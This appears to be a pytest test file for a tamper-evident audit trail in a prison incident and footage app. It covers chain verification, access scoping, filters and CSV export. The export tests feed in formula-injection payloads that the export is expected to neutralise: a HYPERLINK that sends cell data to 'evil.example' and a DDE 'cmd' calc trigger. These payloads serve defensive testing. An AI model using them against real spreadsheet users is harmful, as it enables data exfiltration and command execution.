"""The hash-chained, append-only audit trail."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest
import sqlalchemy as sa
from click.testing import CliRunner
from sqlmodel import select

from app.audit.models import AuditEvent
from app.audit.service import SYSTEM, Actor, record, verify_chain
from app.cli import main as cli


def _seed(session, n: int = 5) -> None:  # type: ignore[no-untyped-def]
    for i in range(n):
        record(session, SYSTEM, "test_event", object_type="thing", object_id=i, detail={"i": i})
    session.commit()


def _disable_guard(session) -> None:  # type: ignore[no-untyped-def]
    """Simulate someone with direct database access who gets round the triggers."""
    if session.get_bind().dialect.name == "postgresql":
        session.exec(sa.text("SET session_replication_role = replica"))
    else:
        session.exec(sa.text("DROP TRIGGER audit_event_no_update"))
        session.exec(sa.text("DROP TRIGGER audit_event_no_delete"))


def test_intact_chain_verifies(engine, session):  # type: ignore[no-untyped-def]
    _seed(session)
    checked, problems = verify_chain(session)
    assert checked == 5 and problems == []
    result = CliRunner().invoke(cli, ["audit", "verify"])
    assert result.exit_code == 0 and "intact: 5 entries" in result.output


def test_concurrent_writers_extend_one_chain(engine, session):  # type: ignore[no-untyped-def]
    """Requests auditing at the same moment each take the chain's end in turn: ids 1..N with no gap, no
    fork (two entries on one predecessor), and a failed request's entry leaves no hole. (With the chain's
    end read by a plain SELECT and written back, PostgreSQL kept 9 entries of 36: the writers collided.)"""
    import threading

    from app.core.db import unit_of_work

    def writer(k: int) -> None:
        for i in range(10):
            try:
                with unit_of_work() as s:
                    record(s, SYSTEM, "test_event", object_type="writer", object_id=k, detail={"i": i})
                    if i == 5:
                        raise RuntimeError("the request failed after auditing")  # rolled back with it
            except RuntimeError:
                pass

    threads = [threading.Thread(target=writer, args=(k,)) for k in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    checked, problems = verify_chain(session)
    assert (checked, problems) == (36, [])
    ids = session.exec(select(AuditEvent.id).order_by(AuditEvent.id)).all()  # type: ignore[arg-type]
    assert ids == list(range(1, 37))


def test_database_refuses_updates_and_deletes(engine, session):  # type: ignore[no-untyped-def]
    _seed(session, 2)
    with pytest.raises(sa.exc.DBAPIError):
        session.exec(sa.text("UPDATE audit_event SET reason = 'x' WHERE id = 1"))
    session.rollback()
    with pytest.raises(sa.exc.DBAPIError):
        session.exec(sa.text("DELETE FROM audit_event WHERE id = 2"))
    session.rollback()


def test_verify_catches_an_altered_row(engine, session):  # type: ignore[no-untyped-def]
    _seed(session)
    _disable_guard(session)
    session.exec(sa.text("UPDATE audit_event SET reason = 'covered up' WHERE id = 3"))
    session.commit()
    checked, problems = verify_chain(session)
    assert any(p.event_id == 3 and "altered" in p.problem for p in problems)
    result = CliRunner().invoke(cli, ["audit", "verify"])
    assert result.exit_code == 1 and "entry 3" in result.output


def test_verify_catches_a_deleted_row_and_a_removed_tail(engine, session):  # type: ignore[no-untyped-def]
    _seed(session)
    _disable_guard(session)
    session.exec(sa.text("DELETE FROM audit_event WHERE id = 2"))
    session.commit()
    _, problems = verify_chain(session)
    assert any("missing" in p.problem for p in problems)
    session.exec(sa.text("DELETE FROM audit_event WHERE id = 5"))
    session.commit()
    _, problems = verify_chain(session)
    assert any("newest entries" in p.problem for p in problems)


def test_sign_in_views_and_changes_are_audited(as_user, session):  # type: ignore[no-untyped-def]
    c = as_user("governor.a")
    c.get("/api/v1/audit/events")
    actions = [e.action for e in session.exec(select(AuditEvent).order_by(AuditEvent.id)).all()]
    assert "sign_in" in actions and "audit_view" in actions


def test_governor_sees_only_their_establishment_entries(as_user, world, session):  # type: ignore[no-untyped-def]
    as_user("coordinator.b").get("/api/v1/incidents")
    events = as_user("governor.a").get("/api/v1/audit/events?limit=1000").json()
    assert events and all(e["establishment_id"] == world.est_a for e in events)
    assert as_user("coordinator.a").get("/api/v1/audit/events").status_code == 403


def test_audit_export_needs_a_reason_and_is_itself_audited(client, world, session):  # type: ignore[no-untyped-def]
    from tests.support import browser_sign_in

    csrf = browser_sign_in(client, "governor.a")
    for reason in ("", "  x "):
        r = client.post("/audit/export", data={"csrf_token": csrf, "reason": reason, "username": "officer.a1"})
        assert r.status_code == 422 and "Enter why you are exporting the audit trail" in r.text, reason
        assert 'href="#export-reason"' in r.text and 'value="officer.a1"' in r.text, "a page, the filters kept"
    r = client.post("/audit/export", data={"csrf_token": csrf, "reason": "Complaint", "from": "31/2/2026"})
    assert r.status_code == 422 and "must be a real date" in r.text and 'value="Complaint"' in r.text
    assert not session.exec(select(AuditEvent).where(AuditEvent.action == "audit_export")).all()
    r = client.post("/audit/export", data={"csrf_token": csrf, "reason": "Monthly use of force meeting"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.content.startswith(b"\xef\xbb\xbfid,at,actor_username")  # the mark Excel needs to read UTF-8
    exports = session.exec(select(AuditEvent).where(AuditEvent.action == "audit_export")).all()
    assert exports and exports[0].reason == "Monthly use of force meeting"


# ---------------------------------------------------------------- CSV export: no spreadsheet formulas
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'


def test_audit_export_writes_formula_text_as_text(as_user, client, world, session):  # type: ignore[no-untyped-def]
    """Anyone can put text into the trail (a failed sign-in records the username tried); an admin's export
    must not hand it to a spreadsheet as a formula. Seen failing with `safe_row` taken out of `to_csv_rows`:
    the actor_username cell came out as `=hyperlink(...)`."""
    from tests.support import browser_sign_in

    r = client.post("/api/v1/auth/token", data={"username": FORMULA, "password": "x"})
    assert r.status_code in (400, 401)
    for i, text in enumerate(("+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "plain")):
        record(session, Actor(username="coordinator.a", establishment_id=world.est_a), "test_event", reason=text)
        record(session, Actor(username="coordinator.a"), "test_event", object_type="thing", object_id=i)
    session.commit()
    csrf = browser_sign_in(client, "admin")
    out = client.post("/audit/export", data={"csrf_token": csrf, "reason": "Formula check"})
    assert out.status_code == 200
    rows = list(csv.DictReader(io.StringIO(out.content.decode("utf-8-sig"))))
    names = [r["actor_username"] for r in rows if r["action"] == "sign_in" and r["outcome"] == "denied"]
    assert names == ["'" + FORMULA.lower()]
    reasons = {r["reason"] for r in rows if r["action"] == "test_event" and r["reason"]}
    assert reasons == {"'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)", "'\t=1+1", "'\r=1+1", "plain"}
    risky = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for r in rows for cell in r.values() if cell and cell.startswith(risky)]


def test_csv_guard_is_shared_by_the_report_export(monkeypatch):  # type: ignore[no-untyped-def]
    """One guard for every CSV (tab and carriage return included); the compliance CSV uses it too. Seen failing
    with `safe_row` taken out of the report's `to_csv`."""
    from app.core.csvsafe import safe_cell
    from app.report import export

    assert [safe_cell(x) for x in ("=1", "+1", "-1", "@a", "\t=1", "\r=1", "\uff1d1", "a=1", "", -5, 2.5, None)] == [
        "'=1", "'+1", "'-1", "'@a", "'\t=1", "'\r=1", "'\uff1d1", "a=1", "", -5, 2.5, None,
    ]  # fmt: skip
    monkeypatch.setattr(export, "summary_rows", lambda *_a, **_k: [["summary", "establishment", "", FORMULA]])
    text = export.to_csv(None)  # type: ignore[arg-type]
    assert list(csv.reader(io.StringIO(text)))[1] == ["summary", "establishment", "", "'" + FORMULA]


# ---------------------------------------------------------------- browsing and filtering
JAN = datetime(2025, 1, 10, 12, 0, tzinfo=UTC)
MAR = datetime(2025, 3, 10, 12, 0, tzinfo=UTC)
TRAIL = [  # at establishment A, oldest first
    (JAN, "coordinator.a", "footage_play", "footage", 7),
    (JAN, "coordinator.a", "footage_play", "footage", 8),
    (JAN, "governor.a", "report_export", None, None),
    (MAR, "coordinator.a", "footage_play", "footage", 7),
    (MAR, "coordinator2.a", "rating_create", "rating", 7),
    (MAR, "coordinator.a", "footage_download", "footage", 7),
]


def _trail(session, world, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """TRAIL at establishment A, one playback at establishment B (which A's governor must never see)."""
    import app.audit.service as audit_service

    with monkeypatch.context() as m:
        for at, who, action, otype, oid in TRAIL:
            m.setattr(audit_service, "utcnow", lambda at=at: at)
            actor = Actor(username=who, establishment_id=world.est_a)
            record(session, actor, action, object_type=otype, object_id=oid)
        actor = Actor(username="coordinator.b", establishment_id=world.est_b)
        record(session, actor, "footage_play", object_type="footage", object_id=7)
    session.commit()


def _page_rows(html: str) -> list[str]:
    """Each row of the audit list as plain text, leaving out the test's own sign-in and page views."""
    body = html.split('<tbody class="govuk-table__body">', 1)[1].split("</tbody>", 1)[0]
    rows = [re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", row)).strip() for row in body.split("</tr>")[:-1]]
    return [r for r in rows if not any(x in r for x in ("audit view", "sign in", "No entries match"))]


def test_audit_page_filters_and_the_export_holds_what_was_filtered(client, world, session, monkeypatch):  # type: ignore[no-untyped-def]
    """GET /audit filters by action, user, record type and number, and UK days; the export form carries every
    filter and the export holds exactly the filtered entries. Seen failing before the fix: the export form had
    no object_type/object_id fields and `POST /audit/export` ignored them (the CSV held every entry since
    1 January, sign-ins and page views included, instead of the 3 about footage 7)."""
    from tests.support import browser_sign_in

    _trail(session, world, monkeypatch)
    csrf = browser_sign_in(client, "governor.a")

    def shown(**params: str) -> list[str]:
        r = client.get("/audit", params=params)
        assert r.status_code == 200
        return _page_rows(r.text)

    everything = shown()
    assert len(everything) == 6 and not any("coordinator.b" in row for row in everything)
    assert "footage download" in everything[0] and "footage play" in everything[-1]  # newest first
    assert len(shown(action="footage_play")) == 3
    assert len(shown(username="coordinator2.a")) == 1 and "rating create" in shown(username="coordinator2.a")[0]
    assert len(shown(object_type="footage", object_id="7")) == 3
    assert len(shown(object_type="footage", object_id="8")) == 1
    assert len(shown(object_type="rating")) == 1
    assert len(shown(**{"from": "2025-03-01"})) == 3
    assert len(shown(**{"to": "2025-01-31"})) == 3
    assert len(shown(**{"from": "2025-01-10", "to": "2025-01-10"})) == 3  # the whole UK day
    assert len(shown(action="footage_play", username="coordinator.a", object_id="7", **{"to": "2025-01-31"})) == 1
    assert shown(action="no_such_action") == []
    assert len(shown(**{"from": "10/1/2025", "to": "10/01/2025"})) == 3  # as the date picker writes: D/M/YYYY
    assert len(shown(action="footage play")) == 3, "actions are found as the table names them"
    assert len(shown(action=" Footage_Play ", object_type="Footage")) == 3
    # Dates it cannot use: a GOV.UK error beside the field, the filters kept, no entries (never month first).
    r = client.get("/audit", params={"from": "1/13/2025", "username": "coordinator.a"})
    assert r.status_code == 422 and "The start date must be a real date" in r.text and 'href="#from"' in r.text
    assert 'value="coordinator.a"' in r.text and "Correct the dates above" in r.text
    r = client.get("/audit", params={"from": "2/3/2025", "to": "1/3/2025"})
    assert r.status_code == 422 and "The start date must be on or before the end date" in r.text

    page = client.get("/audit", params={"object_type": "footage", "object_id": "7", "from": "2025-01-01"}).text
    assert 'name="object_type" type="text" value="footage"' in page  # shown in the filter form
    form = page.split('action="/audit/export"', 1)[1].split("</form>", 1)[0]
    hidden = dict(re.findall(r'<input type="hidden" name="([a-z_]+)" value="([^"]*)"', form))
    assert hidden.pop("csrf_token") == csrf
    expected = {"action": "", "username": "", "object_type": "footage", "object_id": "7", "from": "2025-01-01"}
    assert hidden == {**expected, "to": ""}

    r = client.post("/audit/export", data={"csrf_token": csrf, "reason": "Claim about clip 7", **hidden})
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert len(rows) == 3 and {(x["object_type"], x["object_id"]) for x in rows} == {("footage", "7")}
    assert {x["action"] for x in rows} == {"footage_play", "footage_download"}
    ev = session.exec(select(AuditEvent).where(AuditEvent.action == "audit_export")).one()
    assert ev.detail["rows"] == 3
    assert ev.detail["filters"] == {"object_type": "footage", "object_id": "7", "from": "2025-01-01"}


def test_audit_page_paging_keeps_every_filter(client, world, session, monkeypatch):  # type: ignore[no-untyped-def]
    """Seen failing before the fix: the Older link dropped object_type and object_id, so page 2 showed
    entries about other records."""
    import app.audit.views as audit_views
    from tests.support import browser_sign_in

    _trail(session, world, monkeypatch)
    monkeypatch.setattr(audit_views, "PAGE", 2)
    browser_sign_in(client, "governor.a")
    first = client.get("/audit", params={"object_type": "footage", "object_id": "7"}).text
    assert len(_page_rows(first)) == 2 and all("footage 7" in row for row in _page_rows(first))
    older = re.search(r'href="\?page=2&amp;([^"]+)" rel="next"', first)
    assert older, first
    second = client.get("/audit?page=2&" + older.group(1).replace("&amp;", "&")).text
    assert len(_page_rows(second)) == 1 and "footage 7" in _page_rows(second)[0]
    assert "Older" not in second.split("Pagination", 1)[1].split("</nav>", 1)[0]


def test_audit_api_filters(as_user, world, session, monkeypatch):  # type: ignore[no-untyped-def]
    """GET /api/v1/audit/events: action, username, object type and id, since/until (until exclusive); a
    governor sees only their establishment, an admin the one asked for."""
    _trail(session, world, monkeypatch)
    gov = as_user("governor.a")

    def found(**params: str) -> list[tuple[str, str | None, str | None]]:
        r = gov.get("/api/v1/audit/events", params={"limit": 1000, **params})
        assert r.status_code == 200, r.text
        skip = ("audit_view", "sign_in")
        return [(e["action"], e["actor_username"], e["object_id"]) for e in r.json() if e["action"] not in skip]

    assert len(found()) == 6
    play = "footage_play"
    assert found(action=play) == [
        (play, "coordinator.a", "7"),
        (play, "coordinator.a", "8"),
        (play, "coordinator.a", "7"),
    ]
    assert found(username="coordinator2.a") == [("rating_create", "coordinator2.a", "7")]
    assert [x[0] for x in found(object_type="footage", object_id="7")] == ["footage_download", play, play]
    assert [x[0] for x in found(object_type="rating", object_id="7")] == ["rating_create"]
    assert len(found(since="2025-03-01T00:00:00Z")) == 3
    assert len(found(until="2025-03-01T00:00:00Z")) == 3
    assert len(found(since="2025-01-10T12:00:00Z", until="2025-01-10T12:00:01Z")) == 3
    assert found(since="2025-01-10T12:00:01Z", until="2025-03-10T12:00:00Z") == []
    assert found(action=play, username="coordinator.a", object_id="8") == [(play, "coordinator.a", "8")]
    admin = as_user("admin")
    other = admin.get("/api/v1/audit/events", params={"establishment_id": world.est_b, "action": play})
    assert [e["actor_username"] for e in other.json()] == ["coordinator.b"]
    assert gov.get("/api/v1/audit/events", params={"establishment_id": world.est_b}).status_code == 404


def test_audit_page_says_what_was_refused_and_what_changed(client, world, session):  # type: ignore[no-untyped-def]
    """Colour alone told a refused entry from a done one, and the page had no detail: turning a sign-in off, on
    and a new password all read "user update"."""
    from tests.support import browser_sign_in

    actor = Actor(username="admin", role="admin", ip="10.0.0.9")
    record(session, actor, "user_update", object_type="user", object_id=5, establishment_id=world.est_a,
           outcome="denied", detail={"username": "officer.a1", "active": False})  # fmt: skip
    record(session, actor, "establishment_update", object_type="establishment", object_id=world.est_a,
           establishment_id=world.est_a, detail={"code": "AAA", "name": ["HMP Alpha", "HMP A"]})  # fmt: skip
    session.commit()
    browser_sign_in(client, "governor.a")
    rows = _page_rows(client.get("/audit", params={"username": "admin"}).text)
    assert len(rows) == 2
    assert "establishment update" in rows[0] and "name: HMP Alpha → HMP A" in rows[0] and "code: AAA" in rows[0]
    assert "user update" in rows[1] and "denied" in rows[1] and "active: no" in rows[1] and "from 10.0.0.9" in rows[1]


def test_audit_detail_marks_only_an_updates_own_fields_as_changes() -> None:
    """Two officers set on an incident read as one replaced by the other (found by review)."""
    from app.core.templates import audit_detail

    assert audit_detail({"name": ["HMP A", "HMP B"]}, "establishment_update") == "name: HMP A → HMP B"
    staff = {"changes": {"staff": [{"staff_number": "A001"}, {"staff_number": "A002"}]}}
    assert "→" not in audit_detail(staff, "incident_update")
    assert audit_detail({"cameras": ["CAM1", "CAM2"]}, "footage_link") == "cameras: CAM1, CAM2"
    assert audit_detail({"note": "x" * 500}).endswith("…") and len(audit_detail({"note": "x" * 500})) == 200
